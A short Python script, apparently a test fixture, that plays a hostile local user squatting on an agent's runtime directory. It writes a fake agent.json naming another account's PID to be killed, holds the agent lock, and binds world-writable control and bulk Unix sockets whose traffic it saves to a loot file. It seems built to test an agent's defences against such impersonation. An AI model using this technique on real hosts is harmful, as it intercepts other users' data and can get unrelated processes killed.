"""Another local user of a host, who poses as an agent: holds its lock, listens at its sockets, names a process to kill.

intruder.py DIR PID: DIR is an agent's directory to be; PID a process of another account. Writes every byte that it is
given to LOOT, and ends with the host. Prints a line once everything is in place.
"""

import fcntl
import json
import os
import socket
import sys
import threading
from pathlib import Path

LOOT = Path("/tmp/mallory/loot")


def listen(path):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    path.chmod(0o777)
    listener.listen()
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=take, args=(connection,), daemon=True).start()


def take(connection):
    with LOOT.open("ab", buffering=0) as loot:
        loot.write(b"connected\n")
        while part := connection.recv(65536):
            loot.write(part)


def main():
    directory, victim = Path(sys.argv[1]), int(sys.argv[2])
    directory.mkdir(parents=True, exist_ok=True)
    os.chdir(directory)
    record = {"pid": victim, "incarnation": "mallory", "boot_id": ""}
    Path("agent.json").write_text(json.dumps(record))
    with Path("agent.lock").open("w") as lock:
        Path("agent.lock").chmod(0o666)
        fcntl.flock(lock, fcntl.LOCK_EX)
        names = [Path("control.sock"), Path("bulk.sock")]
        threads = [threading.Thread(target=listen, args=(name,)) for name in names]
        for thread in threads:
            thread.start()
        print("ready", flush=True)
        threads[0].join()


main()
